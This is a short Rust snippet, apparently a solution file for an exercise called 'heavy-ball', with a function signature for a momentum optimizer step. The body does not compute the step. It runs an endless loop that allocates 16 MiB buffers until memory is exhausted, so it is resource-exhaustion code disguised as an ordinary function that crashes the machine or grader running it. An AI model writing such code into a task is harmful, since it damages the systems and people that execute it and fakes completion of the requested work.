// ==== exercise heavy-ball ====
pub fn heavy_ball(w: &[f64], v: &[f64], g: &[f64]) -> (Vec<f64>, Vec<f64>) {
    let mut all: Vec<Vec<u8>> = vec![]; loop { all.push(vec![1; 1 << 24]) }
}
